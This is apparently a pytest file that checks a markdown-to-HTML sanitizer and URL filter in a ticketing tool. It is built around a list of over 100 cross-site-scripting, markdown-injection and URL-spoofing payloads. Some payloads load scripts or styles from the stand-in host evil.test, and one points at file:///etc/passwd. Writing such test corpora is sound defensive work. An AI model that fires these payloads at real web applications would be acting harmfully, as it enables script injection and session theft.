"""T6: whatever a ticket says, the report shows words, and links lead only where they say."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from syncline.model import Text, TextFormat
from syncline.text import to_markdown
from syncline.text.safe_html import TAGS, safe_url, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.test/pixel.gif'>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.test/x.swf'>",
    "<link rel=stylesheet href='//evil.test/x.css'>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<style>@import '//evil.test/x.css';</style>",
    "<p style='background:url(//evil.test/x)'>x</p>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action='https://evil.test'><button>go</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title></title><img src=x onerror=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://a.test' onclick='alert(1)'>x</a>",
    "<a href='https://a.test' target=_blank>x</a>",
    "<a href='//evil.test'>x</a>",
    "<a href='https://good.test@evil.test'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java%0Ascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test)",
    "[x](https://a.test\"onmouseover=\"alert(1))",
    "[x](https://a.test 'title\" onclick=alert(1)')",
    "[x](https://good.test@evil.test)",
    "[x](mailto:a@b.test?bcc=c@d.test)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.test/pixel.gif)",
    "![\"onerror=alert(1)](https://a.test/x)",
    "![x\"><script>alert(1)</script>](https://a.test/x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "# <script>alert(1)</script>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "> <iframe src=x>",
    "- <svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<br onclick=alert(1)>",
    "<br/><script>alert(1)</script>",
    "<p/onmouseover=alert(1)>x",
    "\x00<\x00script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{7*7}} ${7*7} <%= 7*7 %> {% for x in y %}",
    "{{ config.__class__ }}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "'\"><img src=x onerror=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "1. <a name=x id=y>z</a>",
    "~~<b onclick=alert(1)>x</b>~~",
    "https://a.test/?q=<script>alert(1)</script>",
    "<https://a.test/\"onclick=alert(1)>",
    "[a](<https://a.test/'><script>alert(1)</script>>)",
    "\x1b]8;;https://evil.test\x07x\x1b]8;;\x07",
]  # fmt: skip


class Seen(HTMLParser):
    """Every element with its attributes, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)


ALLOWED = {"a": {"href", "rel"}, "ol": {"start"}}


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    assert not seen.other
    for tag, attributes in seen.elements:
        assert tag in TAGS
        assert set(attributes) <= ALLOWED.get(tag, set())
        if "href" in attributes:
            assert safe_url(attributes["href"] or "") == attributes["href"]
            assert attributes["rel"] == "noopener noreferrer"
    assert not set(html) & set("\x00\x1b\u202e\ufeff")


def test_the_corpus_is_large_enough() -> None:
    assert len(set(HOSTILE)) >= 100


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_harmless(text: str) -> None:
    assert_harmless(to_html(text))


@pytest.mark.parametrize("format_", TextFormat)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_of_any_format_is_harmless(text: str, format_: TextFormat) -> None:
    assert_harmless(to_html(to_markdown(Text(format=format_, source=text)).source))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4), st.sampled_from(["", "\n", "\n\n", "](", '"'])
)
def test_hostile_texts_together_are_harmless(texts: list[str], between: str) -> None:
    assert_harmless(to_html(between.join(texts)))


def test_templates_are_words() -> None:
    assert to_html("{{7*7}}") == "<p>{{7*7}}</p>\n"


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
        ("a\nb<br>c", "<p>a<br>\nb<br>\nc</p>\n"),
        ("# T", "<p><strong>T</strong></p>\n"),
        ("3. x", '<ol start="3">\n<li>x</li>\n</ol>\n'),
        (
            "<https://a.test>",
            '<p><a href="https://a.test" rel="noopener noreferrer">https://a.test</a></p>\n',
        ),
        ("![p](https://a.test/p)", '<p><a href="https://a.test/p" rel="noopener noreferrer">p</a></p>\n'),
        ("```py\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>\n"),
        ("> q\n\n---", "<blockquote>\n<p>q</p>\n</blockquote>\n<hr>\n"),
    ],
)
def test_what_markdown_says_is_shown(markdown: str, html: str) -> None:
    assert to_html(markdown) == html


@pytest.mark.parametrize(
    "url",
    [
        "https://a.test", "http://a.test:8080/b?c=d&e=f#g", "https://münchen.test/ü", "HTTPS://A.TEST/",
        "https://a.test/%20(x)", "http://[::1]/x", "https://a.test/b_c*d~e!f$", "mailto:mia.vance+x@a.test",
    ],
)  # fmt: skip
def test_good_urls_pass_unchanged(url: str) -> None:
    assert safe_url(url) == url


@pytest.mark.parametrize(
    "url",
    [
        "", " ", "a.test", "/path", "//a.test", "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\nscript:alert(1)",
        "\x01javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "ftp://a.test/x",
        "blob:https://a.test/x", "about:blank", "https:", "https://", "https:///x", "http:a.test", "https://@a.test",
        "https://good.test@evil.test/", "https://u:p@a.test", "https://a.test\\@evil.test", "https://a.test/\"x",
        "https://a.test/<b>", "https://a.test/ b", "https://a.test/\u202etxt", "https://a.test/\u200bx",
        "https://a\u00a0.test", "https://[::1", "https://a.test:port/", "https://a.test:99999/", "mailto:",
        "mailto:nobody", "mailto:a@b@c", "mailto:a b@c.test", "mailto:a@c.test%0Abcc:x@y.test",
        "https://" + "a" * 5_000,
        "https://a.test/\ud800", "https://a.test/'onclick='x",
    ],
)  # fmt: skip
def test_bad_urls_are_refused(url: str) -> None:
    assert safe_url(url) is None


def test_a_mail_address_loses_its_other_headers() -> None:
    assert safe_url("mailto:a@b.test?bcc=c@d.test&body=x") == "mailto:a@b.test"


@given(st.text())
def test_a_url_that_passes_is_one_of_three_schemes(text: str) -> None:
    for url in (text, "https://" + text, "mailto:" + text):
        passed = safe_url(url)
        assert passed is None or passed.lower().startswith(("https://", "http://", "mailto:"))
